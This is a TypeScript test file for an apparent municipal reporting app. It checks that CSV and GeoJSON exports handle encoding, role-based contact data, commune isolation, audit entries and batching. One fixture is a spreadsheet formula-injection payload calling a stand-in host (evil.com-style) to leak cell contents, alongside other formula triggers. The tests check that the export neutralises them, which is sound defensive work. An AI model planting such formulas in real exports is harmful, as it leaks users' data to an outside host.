import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportBatch, type ExportKey } from '../../../server/src/exports/exports.repo';
import { startTestServer, type TestServer } from '../../support/app';
import { createTestCommune, randomCentre } from '../../support/fixtures';
import { insertKnownReport } from '../../support/stats';
import { auditRows, call, createStaff, signIn, type TestUser } from '../../support/staff';

const NOW = Date.parse('2026-12-15T10:00:00Z');

let srv: TestServer;
let commune: Awaited<ReturnType<typeof createTestCommune>>;
let other: Awaited<ReturnType<typeof createTestCommune>>;
const users = {} as Record<'supervisor' | 'admin' | 'crew' | 'superadmin', TestUser>;
const cookies = {} as Record<keyof typeof users, string>;
const ids: Record<string, string> = {};
let theirs: string;

/** Descriptions a spreadsheet would run as formulas, and text that needs quoting or accents. */
const TEXTS: Record<string, string> = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
  plus: '+33 6 12 34 56 78',
  minus: '-1+2',
  at: '@SUM(A1:A9)',
  tab: '\tcaché',
  cr: '\rretour',
  quoted: 'Nid-de-poule; profond, "vraiment"\nsur deux lignes',
  accents: 'Église Saint-Étienne, près du lavoir (ça déborde)',
};

beforeAll(async () => {
  srv = await startTestServer({ now: () => NOW });
  commune = await createTestCommune(srv.pool, randomCentre());
  other = await createTestCommune(srv.pool, randomCentre());
  for (const role of ['supervisor', 'admin', 'crew'] as const)
    users[role] = await createStaff(srv.pool, [{ communeId: commune.id, role }]);
  users.superadmin = await createStaff(srv.pool, [], { superadmin: true });
  for (const k of Object.keys(users) as Array<keyof typeof users>)
    cookies[k] = await signIn(srv.url, users[k]);
  let i = 0;
  for (const [name, description] of Object.entries(TEXTS)) {
    ids[name] = await insertKnownReport(srv.pool, commune, {
      category: i % 2 ? 'street_light' : 'pothole',
      status: i % 3 ? 'new' : 'fixed',
      closedAfterHours: i % 3 ? undefined : 12,
      receivedAt: new Date(Date.parse('2026-11-01T08:00:00Z') + i * 86_400_000).toISOString(),
      description,
      contactEmail: `habitant${i}@example.org`,
      address: i === 0 ? "=3 Rue de l'Église" : `${i} Route de Vannes`,
      north: 100 * i,
      east: -50 * i,
    });
    i++;
  }
  theirs = await insertKnownReport(srv.pool, other, {
    category: 'pothole',
    status: 'new',
    receivedAt: '2026-11-02T08:00:00Z',
    description: 'Trou chez les voisins',
    contactEmail: 'voisin@example.org',
  });
});
afterAll(async () => {
  await srv?.close();
});

const base = () => `commune=${commune.slug}`;

/** The ids the history list shows for a query. */
async function listIds(query: string): Promise<string[]> {
  const res = await call(srv.url, `/api/staff/reports?${query}&limit=100`, { cookie: cookies.supervisor });
  expect(res.status, res.text).toBe(200);
  return (res.json!.items as Array<{ id: string }>).map((r) => r.id).sort();
}

/** Downloads an export as bytes. */
async function download(path: string, cookie: string) {
  const res = await fetch(`${srv.url}${path}`, { headers: { Cookie: cookie } });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { res, bytes, text: bytes.toString('utf8') };
}

/** A CSV export parsed by an independent parser (csv-parse), with the BOM checked first. */
async function csvOf(query: string, cookie = cookies.supervisor) {
  const { res, bytes } = await download(`/api/reports/export.csv?${query}`, cookie);
  expect(res.status).toBe(200);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const records = parseCsv(bytes.subarray(3), {
    delimiter: ';',
    columns: true,
    record_delimiter: '\r\n',
    relax_quotes: false,
  }) as Array<Record<string, string>>;
  return { res, records, header: bytes.subarray(3).toString('utf8').split('\r\n')[0]!.split(';') };
}

interface Feature {
  type: string;
  id: string;
  geometry: { type: string; coordinates: number[] };
  properties: Record<string, unknown>;
}
async function geojsonOf(query: string, cookie = cookies.supervisor) {
  const { res, text } = await download(`/api/reports/export.geojson?${query}`, cookie);
  expect(res.status).toBe(200);
  return { res, doc: JSON.parse(text) as { type: string; features: Feature[] } };
}

describe('GET /api/reports/export.csv', () => {
  it('is UTF-8 with a BOM, ";"-separated, quoted where needed, accents intact, as an attachment named after the commune and day', async () => {
    const { res, records, header } = await csvOf(base());
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="vigie-${commune.slug}-2026-12-15.csv"`,
    );
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(header).toEqual([
      'id',
      'commune',
      'received_at',
      'status',
      'priority',
      'category',
      'category_label',
      'address',
      'description',
      'public_description',
      'lat',
      'lon',
      'accuracy_m',
      'location_source',
      'closed_at',
      'status_reason',
      'duplicate_of',
      'hidden',
    ]);
    expect(records).toHaveLength(Object.keys(TEXTS).length);
    const byId = new Map(records.map((r) => [r.id!, r]));
    expect(byId.get(ids.quoted!)!.description).toBe(TEXTS.quoted);
    expect(byId.get(ids.accents!)!.description).toBe(TEXTS.accents);
    // Local time of Paris (08:00 UTC is 09:00 there in November), a decimal point in coordinates.
    expect(byId.get(ids.formula!)).toMatchObject({
      received_at: '2026-11-01 09:00:00',
      closed_at: '2026-11-01 21:00:00',
      status: 'fixed',
      commune: commune.slug,
      hidden: 'false',
    });
    expect(byId.get(ids.formula!)!.lat).toMatch(/^\d+\.\d{1,6}$/);
    expect(byId.get(ids.formula!)!.lon).toMatch(/^-?\d+\.\d{1,6}$/);
    expect(Number(byId.get(ids.minus!)!.lat)).toBeCloseTo(commune.centre.lat + (100 * 2) / 111_320, 5);
  });

  it('neutralises every text that a spreadsheet would run as a formula', async () => {
    const { records } = await csvOf(base());
    const byId = new Map(records.map((r) => [r.id!, r]));
    for (const name of ['formula', 'plus', 'minus', 'at', 'tab', 'cr'])
      expect(byId.get(ids[name]!)!.description, name).toBe(`'${TEXTS[name]}`);
    expect(byId.get(ids.formula!)!.address).toBe("'=3 Rue de l'Église");
    expect(byId.get(ids.accents!)!.description).toBe(TEXTS.accents);
    // Numbers are Vigie's own: a negative longitude stays a number.
    for (const r of records) expect(r.lon).not.toMatch(/^'/);
  });

  it('holds exactly the reports of the list for the same filter', async () => {
    for (const q of [base(), `${base()}&category=pothole`, `${base()}&status=fixed`, `${base()}&q=eglise`]) {
      const { records } = await csvOf(q);
      expect(records.map((r) => r.id).sort(), q).toEqual(await listIds(q));
      expect(records.length, q).toBeGreaterThan(0);
    }
    const { records } = await csvOf(`${base()}&from=2027-01-01`);
    expect(records).toEqual([]);
  });

  it('has the reporters’ contact column for admins only', async () => {
    const sup = await csvOf(base(), cookies.supervisor);
    expect(sup.header).not.toContain('contact_email');
    const { text } = await download(`/api/reports/export.csv?${base()}`, cookies.supervisor);
    expect(text).not.toContain('@example.org');
    const admin = await csvOf(base(), cookies.admin);
    expect(admin.header.at(-1)).toBe('contact_email');
    expect(admin.records.find((r) => r.id === ids.formula)!.contact_email).toBe('habitant0@example.org');
    const root = await csvOf(base(), cookies.superadmin);
    expect(root.header.at(-1)).toBe('contact_email');
  });

  it('never holds another commune’s reports; their slug answers 404 like a missing commune', async () => {
    const { records } = await csvOf('', cookies.supervisor);
    expect(records.map((r) => r.id).sort()).toEqual(Object.values(ids).sort());
    expect(records.map((r) => r.id)).not.toContain(theirs);
    const [a, b] = await Promise.all(
      [`commune=${other.slug}`, 'commune=nowhere'].map((q) =>
        call(srv.url, `/api/reports/export.csv?${q}`, { cookie: cookies.admin }),
      ),
    );
    expect([a!.status, b!.status]).toEqual([404, 404]);
    expect(a!.text).toBe(b!.text);
    const all = await csvOf('', cookies.superadmin);
    expect(all.records.map((r) => r.id)).toContain(theirs);
  });

  it('writes an audit entry with the filter, the row count and whether contact data left', async () => {
    const requestId = `export-audit-${Date.now()}`;
    const res = await fetch(`${srv.url}/api/reports/export.csv?${base()}&category=pothole`, {
      headers: { Cookie: cookies.admin, 'X-Request-Id': requestId },
    });
    await res.arrayBuffer();
    const rows = await auditRows(srv.pool, { requestId });
    expect(rows).toMatchObject([
      {
        action: 'export',
        outcome: 'success',
        commune_id: commune.id,
        actor_user_id: users.admin.id,
        object_type: 'reports',
        data: {
          format: 'csv',
          reports: 4,
          contact: true,
          filter: { commune: commune.slug, category: 'pothole' },
        },
      },
    ]);
    const geo = `export-geo-${Date.now()}`;
    await (
      await fetch(`${srv.url}/api/reports/export.geojson?${base()}`, {
        headers: { Cookie: cookies.supervisor, 'X-Request-Id': geo },
      })
    ).arrayBuffer();
    expect(await auditRows(srv.pool, { requestId: geo })).toMatchObject([
      { action: 'export', data: { format: 'geojson', reports: 8, contact: false } },
    ]);
  });

  it('answers 400 for bad filters, 401 without a session, 403 to crews, and writes no export entry then', async () => {
    const requestId = `export-bad-${Date.now()}`;
    for (const q of [
      'from=2026-02-30',
      'priority=urgent',
      'colour=red',
      'bbox=1,2,3',
      'to=2026-01-01&from=2026-02-01',
    ]) {
      const res = await call(srv.url, `/api/reports/export.csv?${base()}&${q}`, {
        cookie: cookies.admin,
        headers: { 'X-Request-Id': requestId },
      });
      expect(res.status, q).toBe(400);
      expect(res.json, q).toMatchObject({ error: { code: 'invalid_request' } });
    }
    expect(await auditRows(srv.pool, { requestId })).toEqual([]);
    // Matched before /api/reports/:id (which would answer 400 invalid_id for "export.csv").
    expect((await call(srv.url, '/api/reports/export.csv')).status).toBe(401);
    expect((await call(srv.url, '/api/reports/export.geojson')).status).toBe(401);
    expect((await call(srv.url, '/api/reports/export.csv', { cookie: cookies.crew })).status).toBe(403);
  });
});

describe('GET /api/reports/export.geojson', () => {
  it('is an RFC 7946 FeatureCollection of points in lon/lat order, one per report of the list', async () => {
    const { res, doc } = await geojsonOf(base());
    expect(res.headers.get('content-type')).toBe('application/geo+json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="vigie-${commune.slug}-2026-12-15.geojson"`,
    );
    expect(doc.type).toBe('FeatureCollection');
    expect(doc.features.map((f) => f.id).sort()).toEqual(await listIds(base()));
    for (const f of doc.features) {
      expect(f.type).toBe('Feature');
      expect(f.geometry.type).toBe('Point');
      const [lon, lat] = f.geometry.coordinates as [number, number];
      expect(f.geometry.coordinates).toHaveLength(2);
      expect(lon).toBeGreaterThanOrEqual(-180);
      expect(lon).toBeLessThanOrEqual(180);
      expect(lat).toBeGreaterThanOrEqual(-90);
      expect(lat).toBeLessThanOrEqual(90);
      // Longitude first: the commune's centre is (lat 43-49, lon -1-6), far apart enough to tell.
      expect(Math.abs(lon - commune.centre.lon)).toBeLessThan(0.02);
      expect(Math.abs(lat - commune.centre.lat)).toBeLessThan(0.02);
      expect(f.properties).not.toHaveProperty('contact_email');
      expect(f.properties).not.toHaveProperty('photos');
    }
    const formula = doc.features.find((f) => f.id === ids.formula)!;
    // GeoJSON is read by programs, not spreadsheets: text as written, times in UTC.
    expect(formula.properties).toMatchObject({
      description: TEXTS.formula,
      received_at: '2026-11-01T08:00:00Z',
      closed_at: '2026-11-01T20:00:00Z',
      status: 'fixed',
      category: 'pothole',
      hidden: false,
    });
  });

  it('follows the filter, and carries contact data for admins only', async () => {
    const q = `${base()}&category=street_light`;
    const { doc } = await geojsonOf(q);
    expect(doc.features.map((f) => f.id).sort()).toEqual(await listIds(q));
    const admin = await geojsonOf(q, cookies.admin);
    expect(admin.doc.features.every((f) => /@example\.org$/.test(String(f.properties.contact_email)))).toBe(
      true,
    );
    const empty = await geojsonOf(`${base()}&from=2027-01-01`);
    expect(empty.doc).toEqual({ type: 'FeatureCollection', features: [] });
    const mine = await geojsonOf('');
    expect(mine.doc.features.map((f) => f.id)).not.toContain(theirs);
  });
});

describe('export batches', () => {
  it('continue exactly where the previous one stopped, even between reports received at the same instant', async () => {
    const same = await createTestCommune(srv.pool, randomCentre());
    const made: string[] = [];
    for (let i = 0; i < 7; i++)
      made.push(
        await insertKnownReport(srv.pool, same, {
          category: 'pothole',
          status: 'new',
          receivedAt: i < 5 ? '2026-11-05T10:00:00Z' : '2026-11-06T10:00:00Z',
        }),
      );
    const f = { communeIds: [same.id], timezone: 'Europe/Paris' };
    const seen: string[] = [];
    let after: ExportKey | undefined;
    for (let n = 0; n < 10; n++) {
      const rows = await exportBatch(srv.pool, f, [], after, 2);
      seen.push(...rows.map((r) => r.id));
      if (rows.length < 2) break;
      after = rows.at(-1)!.key;
    }
    expect(seen).toHaveLength(7);
    expect([...seen].sort()).toEqual([...made].sort());
  });
});
